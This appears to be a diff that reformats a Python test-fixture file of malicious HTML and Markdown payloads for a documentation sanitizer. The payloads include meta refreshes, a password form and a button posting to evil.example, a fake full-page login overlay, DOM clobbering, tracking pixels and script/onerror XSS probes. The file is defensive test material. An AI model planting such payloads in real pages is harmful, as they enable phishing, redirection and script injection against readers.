@@ -66,11 +66,14 @@ RAW_HTML = {
     "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
     "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
     "style-import": "<style>@import url(https://evil.example/x.css);</style>",
-    "form-password": ('<form action="https://evil.example/"><input type="password" name="p">'
-                      "</form>"),
+    "form-password": (
+        '<form action="https://evil.example/"><input type="password" name="p"></form>'
+    ),
     "button-formaction": '<button formaction="https://evil.example/">Log in</button>',
-    "overlay-style": ('<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
-                      'background:white">Please log in</div>'),
+    "overlay-style": (
+        '<div style="position:fixed;top:0;left:0;width:100%;height:100%;'
+        'background:white">Please log in</div>'
+    ),
     "theme-class": '<div class="fixed-top w-100 h-100 bg-white">Please log in</div>',
     "dom-clobbering-id": '<a id="DOCUMENTATION_OPTIONS" href="https://example.org/">x</a>',
     "tracking-pixel": '<img src="https://evil.example/pixel.gif" width="1" height="1">',
@@ -109,8 +112,9 @@ FILE_READS = {
 
 #: what writes into a page's <head> (a refresh there sends every reader elsewhere)
 HEAD = {
-    "eval-rst-meta-refresh": ("```{eval-rst}\n.. meta::\n   :http-equiv=refresh: "
-                              "0; url=https://evil.example/\n```"),
+    "eval-rst-meta-refresh": (
+        "```{eval-rst}\n.. meta::\n   :http-equiv=refresh: 0; url=https://evil.example/\n```"
+    ),
     "eval-rst-meta-name": "```{eval-rst}\n.. meta::\n   :description: Not the editors' words\n```",
 }
 
@@ -138,12 +142,16 @@ def payload_lines(name: str) -> range:
 EDITORIAL = {
     # (path, text, line of the payload)
     "posts/index.md": ("# Posts\n\nAll the posts.\n\n<script>alert(1)</script>\n", 5),
-    "orphan.md": ("---\norphan: true\n---\n\n# An orphan page\n\n"
-                  '<img src=x onerror="alert(1)">\n', 7),
+    "orphan.md": (
+        '---\norphan: true\n---\n\n# An orphan page\n\n<img src=x onerror="alert(1)">\n',
+        7,
+    ),
 }
 
 #: allowed but tricky: a passing page, which must not run anything either
-TRICKY_BUT_FINE = HEADER.format(title="Tricky but fine") + """\
+TRICKY_BUT_FINE = (
+    HEADER.format(title="Tricky but fine")
+    + """\
 Text with <b>bold</b>, <i>italic</i>, <a href="https://example.org/" title="a &quot;title&quot;">a link</a>,
 escaped markup: &lt;script&gt;alert(1)&lt;/script&gt; and \\<img src=x onerror=alert(1)>,
 and code: `<script>alert(1)</script>`.
@@ -171,3 +179,4 @@ javascript:void(0), or <b>JavaScript:</b> in capitals), and data: addresses too;
 
 <p>The <code>javascript:</code> scheme in <code>&lt;a href="javascript:x"&gt;</code>.</p>
 """
+)
